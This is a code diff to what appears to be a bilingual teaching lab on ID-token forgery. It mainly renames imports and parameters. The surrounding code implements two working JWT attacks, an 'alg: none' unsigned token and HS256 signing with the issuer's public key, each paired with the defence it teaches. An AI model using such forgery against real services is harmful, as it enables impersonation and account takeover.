@@ -1,7 +1,13 @@
 /** Two ways to write an ID token oneself: without a signature, and signed with a public key. */
 import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';
-import { type Attack, fails, type Seen, type Tell, works } from '../attack.ts';
-import { ANGELA_CIVIL_STATUS, ANGELAS_FILE, claimFile, giveAngelaAFile, SERVICE } from '../cast.ts';
+import {
+  ANGELA_CIVIL_STATUS,
+  ANGELAS_FILE,
+  claimFile,
+  giveAngelaAFile,
+  SERVICE,
+} from '../actors.ts';
+import { type Attack, fails, type Narrate, type Outcome, works } from '../attack.ts';
 import type { Lab } from '../lab.ts';
 
 const common = {
@@ -36,8 +42,8 @@ export const algNone: Attack = {
     fr: 'Le service sait d’avance avec quel algorithme le tiers de confiance signe pour lui. Ce que l’en-tête du jeton propose ne compte pas.',
     en: 'The service knows beforehand which algorithm the broker signs with for it. What the header of the token proposes does not count.',
   },
-  play: (lab, tell) =>
-    present(lab, tell, {
+  play: (lab, narrate) =>
+    present(lab, narrate, {
       token: `${unsigned(lab, 'none')}.`,
       fr: 'Écrit un jeton d’identité au nom d’Angela, en-tête « alg: none », sans signature.',
       en: 'Writes an ID token in Angela’s name, header “alg: none”, without a signature.',
@@ -63,15 +69,15 @@ export const publicKeySecret: Attack = {
     fr: 'L’algorithme est un réglage du service, jamais une proposition du jeton : une clé publique ne peut donc pas servir de secret partagé.',
     en: 'The algorithm is a setting of the service, never a proposal of the token: so a public key cannot be used as a shared secret.',
   },
-  async play(lab, tell) {
+  async play(lab, narrate) {
     const published = await lab.attacker.open(`${lab.issuer}/jwks`);
-    tell('attacker', 'Lit les clés publiques.', 'Reads the public keys.');
+    narrate('attacker', 'Lit les clés publiques.', 'Reads the public keys.');
     const { keys } = JSON.parse(published.text) as { keys: JsonWebKey[] };
     const [key = {}] = keys;
     const pem = createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
     const content = unsigned(lab, 'HS256');
     const signature = createHmac('sha256', pem).update(content).digest('base64url');
-    return present(lab, tell, {
+    return present(lab, narrate, {
       token: `${content}.${signature}`,
       fr: 'Signe en HS256 un jeton au nom d’Angela, avec la clé publique pour secret.',
       en: 'Signs with HS256 a token in Angela’s name, with the public key as the secret.',
@@ -91,12 +97,12 @@ function unsigned({ issuer, credentials }: Lab, alg: string): string {
 
 async function present(
   lab: Lab,
-  tell: Tell,
+  narrate: Narrate,
   { token, fr, en }: { token: string; fr: string; en: string },
-): Promise<Seen> {
-  tell('attacker', fr, en);
+): Promise<Outcome> {
+  narrate('attacker', fr, en);
   const page = await lab.attacker.send(`${lab.url(SERVICE)}/phone`, { id_token: token });
-  tell('attacker', 'Le présente aux Impôts.', 'Shows it to the tax office.');
+  narrate('attacker', 'Le présente aux Impôts.', 'Shows it to the tax office.');
   const account = await claimFile(lab, lab.attacker);
   if (account.shown('file-number') === ANGELAS_FILE)
     return works(
